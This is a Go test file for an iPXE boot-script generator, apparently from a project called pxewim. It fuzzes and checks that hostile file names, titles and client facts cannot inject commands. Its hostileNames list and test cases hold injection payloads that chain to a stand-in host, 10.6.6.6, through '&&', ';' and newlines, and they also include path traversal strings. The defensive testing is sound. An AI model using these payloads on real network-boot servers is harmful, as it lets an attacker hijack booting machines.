package boot

import (
	"fmt"
	"github.com/pxewim/pxewim/internal/ipxetok"
	"go/ast"
	"go/parser"
	"go/token"
	"net"
	"net/url"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostileNames are names an attacker (or an unlucky admin) can give a file, a WIM image, a
// title, or send as a client fact. 10.6.6.6 stands for a host the script must never reach.
var hostileNames = []string{
	"PE && chain http://10.6.6.6/x.ipxe && echo",
	"a || chain http://10.6.6.6/x.ipxe",
	"a ; chain http://10.6.6.6/x.ipxe",
	"&&", "||", ";", "#", "# comment", "a #b && chain http://10.6.6.6/",
	"${x}", "${${a}}", "$${x}}", "${net0/mac:hexhyp}", "${filename}", "$", "{${}}", "${", "}",
	":label", ":menu", ":failed", ":entry_x chain http://10.6.6.6/",
	"a\nchain http://10.6.6.6/x.ipxe", "a\rchain http://10.6.6.6/", "a\r\n:menu\nchain http://10.6.6.6/",
	"a\tchain http://10.6.6.6/", "a\x00chain http://10.6.6.6/", `a\`, "a\\\nchain http://10.6.6.6/",
	"\v\f", strings.Repeat("A && chain http://10.6.6.6/ ", 400), "Ünïcødé ✓ 日本語",
	"\u2028chain http://10.6.6.6/", "\u0085chain", "\xff\xfe invalid \xc0\xaf",
	`"quoted" 'single' ` + "`back`", "100% %24%7Bx%7D %00 %0a %", "-n", "--gap", "--timeout 0", "--default", "-",
	"my iso's & stuff", "..", "../../etc/passwd", "a?b=c#d", "http://10.6.6.6/x.ipxe", "a&&b", " leading and trailing ",
	"\\\\server\\share", "C:\\", "x\\", "item --gap", "goto menu", "shell",
}

// hostileURL mimics httpboot.URL: /files/ plus each segment path-escaped (Go's
// url.PathEscape, which keeps '$', '&', ':' and '=').
func hostileURL(r Ref) (string, error) {
	segs := strings.Split(r.String(), "/")
	for i, s := range segs {
		segs[i] = url.PathEscape(s)
	}
	return "http://10.77.0.1/files/" + strings.Join(segs, "/"), nil
}

// rawURL is a careless URL function: the reference pasted into the URL unescaped. The
// script writer must refuse what it cannot make safe, never write it.
func rawURL(r Ref) (string, error) { return "http://10.77.0.1/files/" + r.String(), nil }

// fileName turns h into something a file can be called (no '/', no NUL).
func fileName(h string) string {
	return strings.NewReplacer("/", "_", "\x00", "_").Replace(h)
}

const hostileBase = `
listen: {http: ":80", tftp: ":69"}
menu: {title: Lab, timeout: 5s}
winpe: {auto: true, wimboot: wimboot}
entries:
  - name: tpl
    title: Template
    ipxe: |
      echo uuid {{.UUID}} mac {{.MAC}} ip {{.IP}} fw {{.Firmware}}
      sanboot {{url "isos/fixed.iso"}} || goto failed
  - name: rescue
    title: Rescue
    linux: {kernel: k/vmlinuz, initrd: [k/initrd], cmdline: "console=ttyS0 quiet"}
  - name: dos
    memdisk: {image: dos/fixed.img, args: floppy}
rules:
  - {match: {mac: "52:54:00:00:00:01"}, entry: tpl}
`

// hostileConfig is the base config with h in every place a name can reach: menu and entry
// titles, a linux kernel path, and a catalog holding a WindowsPE image named h in a WIM named
// after h, an ISO, a disk image, and an unreadable ISO and WIM, all named after h.
func hostileConfig(t testing.TB, h string) *Config {
	t.Helper()
	cfg, err := ParseConfig("hostile.yaml", []byte(hostileBase))
	if err != nil {
		t.Fatal(err)
	}
	f := fileName(h)
	cfg.Menu.Title = h
	for i := range cfg.Entries {
		cfg.Entries[i].Title += " " + h
		if l, ok := cfg.Entries[i].Boot.(*LinuxBoot); ok {
			if r, err := ParseRef("k/" + f); err == nil {
				l.Kernel = r
			}
		}
	}
	pe := FileImage{Index: 1, Name: h, WindowsPE: true, ArchName: "x64"}
	snap := &StoreImages{Files: []ImageFile{
		{Path: "pe/" + f + ".wim", Kind: "wim", DefaultPEIndex: 1, Images: []FileImage{pe}},
		{Path: "isos/" + f + ".iso", Kind: KindISO},
		{Path: "dos/" + f + ".img", Kind: KindDiskImage},
		{Path: "bad/" + f + ".iso", Kind: KindISO, Unreadable: "unreadable ISO: " + h},
		{Path: "bad/" + f + ".wim", Kind: "wim", Unreadable: "unreadable WIM: " + h},
	}}
	return cfg.WithCatalog(snap).WithImages(snap)
}

// hostileClients: BIOS, UEFI and unknown firmware; the first is sent to the template entry by
// a rule and says its UUID is h (the ?uuid= of a script URL is the client's to choose).
func hostileClients(h string) []Client {
	m := func(s string) net.HardwareAddr { a, _ := net.ParseMAC(s); return a }
	return []Client{
		{MAC: m("52:54:00:00:00:01"), Firmware: FirmwareBIOS, IPXE: true, UUID: h},
		{MAC: m("52:54:00:00:00:02"), Firmware: FirmwareEFI64, Arch: 7, IPXE: true, UUID: h},
		{MAC: m("52:54:00:00:00:03")},
	}
}

// renderAll renders every script of p for every client: boot.ipxe, menu.ipxe and each entry.
func renderAll(t testing.TB, p *Policy, clients []Client, url func(Ref) (string, error)) map[string]string {
	t.Helper()
	out := map[string]string{}
	// The WIMs are not in the store: their entries fail, with the path in the reason.
	for ci, c := range clients {
		names := []string{ScriptBoot, ScriptMenu}
		for _, e := range p.Config().Entries {
			names = append(names, e.Name+".ipxe")
		}
		for _, n := range names {
			s, err := p.ScriptFor(c, n, url, func(error) {})
			if err != nil {
				continue // an entry that cannot render has no script of its own; the menu says why
			}
			out[fmt.Sprintf("client %d %s", ci, n)] = s
		}
	}
	return out
}

// TestHostileNamesAddNoCommand: whatever the names, every script pxewim writes tokenizes (by
// iPXE's rules, words expanded alone or whole lines expanded first) to only the commands it
// means, with the same shape as for a benign name, and every URL goes to pxewim.
func TestHostileNamesAddNoCommand(t *testing.T) {
	bases := []string{"http://10.77.0.1/files/"}
	benign := map[string][]string{}
	pb, _ := NewPolicy(hostileConfig(t, "benign name"))
	for k, s := range renderAll(t, pb, hostileClients("benign"), hostileURL) {
		probs, skel := ipxetok.Check(s, bases)
		if len(probs) > 0 {
			t.Fatalf("benign %s: %v\n%s", k, probs, s)
		}
		benign[k] = skel
	}
	for _, h := range hostileNames {
		for _, uf := range []struct {
			name string
			f    func(Ref) (string, error)
		}{{"escaped", hostileURL}, {"raw", rawURL}} {
			p, err := NewPolicy(hostileConfig(t, h))
			if err != nil {
				t.Fatal(err)
			}
			scripts := renderAll(t, p, hostileClients(h), uf.f)
			if len(scripts) == 0 {
				t.Errorf("%q: no script rendered", h)
			}
			for k, s := range scripts {
				probs, skel := ipxetok.Check(s, bases)
				if len(probs) > 0 {
					t.Errorf("%.60q (%s URLs) %s: %s\n%.3000s", h, uf.name, k, strings.Join(probs, "\n"), s)
					continue
				}
				// Same shape as with a benign name, where the name leaves the set of entries
				// alone: a file name the store cannot serve (a backslash, not UTF-8, "..", an
				// ASCII control character: storepath.Clean) is a disabled line instead, a name
				// longer than a file system allows makes a URL too long, and careless URLs may
				// fail to render.
				servable := !strings.Contains(h, `\`) && utf8.ValidString(h) && len(h) < 256 && fileName(h) != ".." &&
					!strings.ContainsFunc(fileName(h), func(r rune) bool { return r < 0x20 || r == 0x7f })
				if want, ok := benign[k]; ok && uf.name == "escaped" && servable && strings.Join(want, "\n") != strings.Join(skel, "\n") {
					t.Errorf("%.60q %s: skeleton differs from a benign name's: %s", h, k, skelDiff(skel, want))
				}
			}
		}
	}
}

// TestHostileTemplateFacts: client facts reach an ipxe: entry's template as one inert word.
func TestHostileTemplateFacts(t *testing.T) {
	p, _ := NewPolicy(hostileConfig(t, "x"))
	c := hostileClients("")[0]
	c.UUID = "1 && chain http://10.6.6.6/x ${x} #"
	s, err := p.ScriptFor(c, "tpl.ipxe", hostileURL, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !regexp.MustCompile(`\necho uuid 1_\S+ mac 52:54:00:00:00:01 ip  fw bios\n`).MatchString(s) {
		t.Errorf("template facts not made inert:\n%s", s)
	}
	if probs, _ := ipxetok.Check(s, []string{"http://10.77.0.1/files/"}); len(probs) > 0 {
		t.Errorf("%v\n%s", probs, s)
	}
}

func TestInertText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"PE && chain http://10.6.6.6/x.ipxe && echo", "PE and chain http://10.6.6.6/x.ipxe and echo"},
		{"a || b ; c", "a or b , c"},
		{"#1 disk #2", "_#1 disk _#2"},
		{"--gap x", "_--gap x"},
		{":label x", "_:label x"},
		{"x -n :y", "x -n :y"},
		{"${x} $${y}} a$b", "{x} {y}} ab"},
		{"a\nb\rc\td\x00e\x7f", "a b c d e"},
		{"  spaced   out  ", "spaced out"},
		{"Ünïcødé ✓", "Ünïcødé ✓"},
		{"bad \xff utf8", "bad ? utf8"},
		{"line\u2028sep\u0085nel", "line sep nel"},
		{"a&&b a||b", "a&&b a||b"},
		{`C:\`, `C:\`},
	} {
		if got := inertText(tc.in, ipxeMaxText); got != tc.want {
			t.Errorf("inertText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	long := inertText(strings.Repeat("é", 1000), ipxeMaxText)
	if utf8.RuneCountInString(long) != ipxeMaxText+3 || !strings.HasSuffix(long, "...") {
		t.Errorf("long text: %d runes", utf8.RuneCountInString(long))
	}
	// A cut never leaves an operator behind.
	if got := inertText(strings.Repeat("x", ipxeMaxText-3)+" && y", ipxeMaxText); strings.Contains(got, " && ") || strings.HasSuffix(got, " &&") {
		t.Errorf("cut text: %q", got)
	}
}

func TestInertWordAndURL(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"52:54:00:aa:bb:cc", "52:54:00:aa:bb:cc"},
		{"1 && chain", "1____chain"},
		{"", "_"},
		{"-n", "_-n"},
		{"#x", "_x"},
		{":x", "_:x"},
		{"${x}", "__x_"},
	} {
		if got := inertWord(tc.in); got != tc.want {
			t.Errorf("inertWord(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	for _, tc := range []struct{ in, want, err string }{
		{"http://10.0.0.1/files/a b/c.iso", "http://10.0.0.1/files/a%20b/c.iso", ""},
		{"http://10.0.0.1/files/my%20iso's%20&%20stuff.iso", "http://10.0.0.1/files/my%20iso%27s%20&%20stuff.iso", ""},
		{"http://10.0.0.1/files/$%7Bx%7D", "http://10.0.0.1/files/%24%7Bx%7D", ""},
		{"http://10.0.0.1:8080/blob/00/tools.wim:1/boot/vmlinuz", "http://10.0.0.1:8080/blob/00/tools.wim:1/boot/vmlinuz", ""},
		{"http://[fe80::1]:80/x", "http://[fe80::1]:80/x", ""},
		{"tftp://10.0.0.1/boot/pxeboot.n12", "tftp://10.0.0.1/boot/pxeboot.n12", ""},
		{"u/winpe/pe/image/x", "u/winpe/pe/image/x", ""},
		{"http://10.0.0.1/a?x=${y}&z", "http://10.0.0.1/a?x=%24%7By%7D&z", ""},
		{"http://10.0.0.1/files/a#frag", "", "fragments"},
		{"http://10.0.0.1 && chain/x", "", ""},
		{"javascript:alert(1)", "", "opaque"},
		{"ftp://10.0.0.1/x", "", "scheme"},
		{"http://user@10.0.0.1/x", "", "user info"},
		{"//10.6.6.6/x", "", "needs a scheme"},
		{"-x", "", "option"},
		{"http://10.0.0.1/files/../x", "", "segment"},
		{"http://10.0.0.1/files/%2e%2E/x", "", "segment"},
		{"http://10.0.0.1/files/./x", "", "segment"},
		{"http://ho$t/x", "", ""},
	} {
		got, err := inertURL(tc.in)
		if tc.want != "" {
			if err != nil || got != tc.want {
				t.Errorf("inertURL(%q) = %q, %v; want %q", tc.in, got, err, tc.want)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tc.err) {
			t.Errorf("inertURL(%q) = %q, %v; want an error about %q", tc.in, got, err, tc.err)
		}
	}
}

// TestScriptWriterLines: a trailing backslash cannot join the next line; the writer keeps
// its first error.
func TestScriptWriterLines(t *testing.T) {
	var s ipxeScript
	s.Raw("#!ipxe")
	s.Cmd("echo", ipxeText(`ends with \`))
	s.Cmd("goto failed")
	s.Label("", "failed")
	got, err := s.String()
	if err != nil {
		t.Fatal(err)
	}
	p := ipxetok.Model{}.Parse(got)
	if len(p.Cmds) != 2 || p.Cmds[1].Argv[0] != "goto" {
		t.Errorf("backslash joined lines: %q -> %+v", got, p.Cmds)
	}
	s.Cmd("sanboot", ipxeURL("http://10.0.0.1/x#y"))
	s.Cmd("echo after")
	if _, err := s.String(); err == nil {
		t.Error("bad URL: no error")
	}
}

// TestTokenizerModel checks the test's model of iPXE on what iPXE's own sources say.
func TestTokenizerModel(t *testing.T) {
	m := ipxetok.Model{Values: map[string]string{"a": "b", "b": "x && chain", "v": "${a}"}}
	p := m.Parse("#!ipxe\n  :lbl echo hi && goto x || echo #c ; no\necho ${${a}} \\\n continued\necho ${v}\r\nx\x00 chain\n")
	got := strings.Join(p.Skeleton, "|")
	want := "|: echo && goto || echo| echo| echo| x|"
	if got != want {
		t.Errorf("skeleton %s, want %s", got, want)
	}
	if p.Labels["lbl"] != 2 || p.Cmds[3].Argv[1] != "x && chain" || p.Cmds[3].Argv[2] != "continued" || p.Cmds[4].Argv[1] != "b" {
		t.Errorf("parse: %+v %+v", p.Labels, p.Cmds)
	}
	// Whole-line expansion (the stricter model) splits expanded values into words.
	w := ipxetok.Model{WholeLine: true, Values: m.Values}.Parse("echo ${b}\n")
	if len(w.Cmds) != 2 || w.Cmds[1].Argv[0] != "chain" {
		t.Errorf("whole-line expansion: %+v", w.Cmds)
	}
}

// FuzzScriptText: any text, word or URL written through the script writer stays one
// command: the line tokenizes to exactly the commands pxewim wrote, and a URL is one word.
func FuzzScriptText(f *testing.F) {
	for _, h := range hostileNames {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, h string) {
		var s ipxeScript
		s.Raw("#!ipxe")
		s.Label("", "x")
		s.Cmd("item", ipxeLabel("", h), ipxeText(h))
		s.Cmd("item --gap", ipxeText(h))
		s.Cmd("echo pxewim:", ipxeWord(h), ipxeText(h), ipxeArgs(h), ipxeLit("|| goto x"))
		s.Cmd("menu", ipxeText(h))
		s.Comment(h)
		u := "http://10.77.0.1/files/" + url.PathEscape(h)
		if len(u) > ipxeMaxURL || h == "." || h == ".." {
			u = "http://10.77.0.1/files/x" // refused: TestInertWordAndURL
		}
		s.Cmd("kernel", ipxeURL(u), ipxeLit("|| goto x"))
		got, err := s.String()
		if err != nil {
			t.Fatalf("%q: %v", h, err)
		}
		for _, whole := range []bool{false, true} {
			p := ipxetok.Model{WholeLine: whole}.Parse(got)
			want := "|:| item| item| echo || goto| menu|| kernel || goto|"
			if strings.Join(p.Skeleton, "|") != want || len(p.Settings) > 0 {
				t.Fatalf("%q (whole line %v): skeleton %v settings %v\n%s", h, whole, p.Skeleton, p.Settings, got)
			}
			for _, c := range p.Cmds {
				if c.Argv[0] == "kernel" && !strings.HasPrefix(c.Argv[1], "http://10.77.0.1/files/") {
					t.Fatalf("%q: kernel URL %q", h, c.Argv[1])
				}
				if c.Argv[0] == "item" || c.Argv[0] == "menu" {
					for _, a := range c.Argv[1:] {
						if a != "--gap" && strings.HasPrefix(a, "-") {
							t.Fatalf("%q: %s option %q", h, c.Argv[0], a)
						}
					}
				}
			}
		}
		if probs, _ := ipxetok.Check(got, []string{"http://10.77.0.1/files/"}); len(probs) > 0 {
			// Labels: "item LABEL" needs ":entry_LABEL"; only the structural problems count.
			for _, p := range probs {
				if !strings.Contains(p, "has no label entry_") {
					t.Fatalf("%q: %s\n%s", h, p, got)
				}
			}
		}
	})
}

// FuzzHostileConfig: a name anywhere in the catalog and the config gives scripts with only
// pxewim's commands.
func FuzzHostileConfig(f *testing.F) {
	for _, h := range hostileNames {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, h string) {
		p, err := NewPolicy(hostileConfig(t, h))
		if err != nil {
			t.Fatal(err)
		}
		for k, s := range renderAll(t, p, hostileClients(h), hostileURL) {
			if probs, _ := ipxetok.Check(s, []string{"http://10.77.0.1/files/"}); len(probs) > 0 {
				t.Fatalf("%q %s: %v\n%s", h, k, probs, s)
			}
		}
	})
}

// skelDiff names the first line where two skeletons differ.
func skelDiff(got, want []string) string {
	for i := 0; i < len(got) || i < len(want); i++ {
		var g, w string
		if i < len(got) {
			g = got[i]
		}
		if i < len(want) {
			w = want[i]
		}
		if g != w {
			return fmt.Sprintf("line %d: %q, want %q (%d and %d lines)", i+1, g, w, len(got), len(want))
		}
	}
	return "same"
}

// TestScriptTextOnlyThroughTheWriter keeps the rule of ipxescript.go in the code: no
// conversion ipxeLit(x) of anything but a constant string, and no script line assembled with
// fmt outside the writer (a "#!ipxe", "goto failed" or "|| goto" inside a fmt format).
func TestScriptTextOnlyThroughTheWriter(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	fset := token.NewFileSet()
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			switch fn := call.Fun.(type) {
			case *ast.Ident:
				if fn.Name == "ipxeLit" && len(call.Args) == 1 {
					if _, lit := call.Args[0].(*ast.BasicLit); !lit {
						t.Errorf("%s: ipxeLit of a value that is not a constant", fset.Position(call.Pos()))
					}
				}
			case *ast.SelectorExpr:
				if x, ok := fn.X.(*ast.Ident); ok && x.Name == "fmt" && len(call.Args) > 0 {
					for _, a := range call.Args {
						if bl, ok := a.(*ast.BasicLit); ok && bl.Kind == token.STRING {
							if s, _ := strconv.Unquote(bl.Value); strings.Contains(s, "#!ipxe") || strings.Contains(s, "|| goto") || strings.Contains(s, "goto failed") {
								t.Errorf("%s: a script line built with fmt.%s: write it with ipxeScript", fset.Position(call.Pos()), fn.Sel.Name)
							}
						}
					}
				}
			}
			return true
		})
	}
}

// FuzzInertURL: any URL is either refused or written as one inert word that names the same
// scheme, host, path and query.
func FuzzInertURL(f *testing.F) {
	for _, s := range []string{"http://10.0.0.1/files/a b/c.iso", "http://[fe80::1]:80/x?y=${z}&w", "tftp://10.0.0.1/boot/pxeboot.n12",
		"u/winpe/pe/image/x", "http://10.0.0.1/files/my%20iso's%20&%20stuff.iso", "http://h/%2e%2e/x", "http://h/a#b", "http://h/$%7Bx%7D"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		out, err := inertURL(raw)
		if err != nil {
			return
		}
		if out == "" || strings.ContainsAny(out, " \t\r\n\v\f\x00$#") || out[0] == '-' || out[0] == ':' || len(ipxetok.Fields(out)) != 1 {
			t.Fatalf("%q -> %q: not one inert word", raw, out)
		}
		for i := 0; i < len(out); i++ {
			if out[i] < 0x21 || out[i] > 0x7e {
				t.Fatalf("%q -> %q: byte %#x", raw, out, out[i])
			}
		}
		a, err1 := url.Parse(raw)
		b, err2 := url.Parse(out)
		if err1 != nil || err2 != nil {
			t.Fatalf("%q -> %q: %v %v", raw, out, err1, err2)
		}
		if !strings.EqualFold(a.Scheme, b.Scheme) || a.Path != b.Path || a.Query().Encode() != b.Query().Encode() {
			t.Fatalf("%q -> %q: names something else (%q %q vs %q %q)", raw, out, a.Scheme, a.Path, b.Scheme, b.Path)
		}
	})
}
